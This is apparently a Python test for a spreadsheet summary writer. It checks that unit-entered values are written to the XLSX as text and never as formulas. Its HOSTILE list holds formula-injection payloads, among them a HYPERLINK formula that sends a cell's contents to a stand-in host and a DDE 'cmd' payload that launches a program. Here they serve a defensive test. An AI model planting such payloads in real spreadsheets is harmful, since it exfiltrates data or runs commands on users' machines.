"""The 汇总表 XLSX: what a unit typed reaches the staff's spreadsheet as text, never as a formula."""
from __future__ import annotations

import datetime as dt
import io
import zipfile

from openpyxl import load_workbook

from workers.packets.summary import Sheet, write_xlsx

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1"]


def test_values_that_look_like_formulas_are_written_as_text() -> None:
    """GIVEN values starting with = + - @ (and a tab) WHEN the summary is written THEN the workbook
    holds no formula at all and each cell reads back as exactly the text that was given."""
    rows = [[v, "某局机关党支部", 45] for v in HOSTILE]
    data = write_xlsx([Sheet("汇总表", "汇总表", ["单位", "名称", "党员人数"], [None, None, None], rows,
                             [str(i) for i in range(len(rows))])], compiled=dt.datetime(2017, 4, 25))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == HOSTILE
    assert all(ws.cell(row=i + 2, column=1).data_type == "s" for i in range(len(HOSTILE)))
    assert ws.cell(row=2, column=3).value == 45          # numbers stay numbers
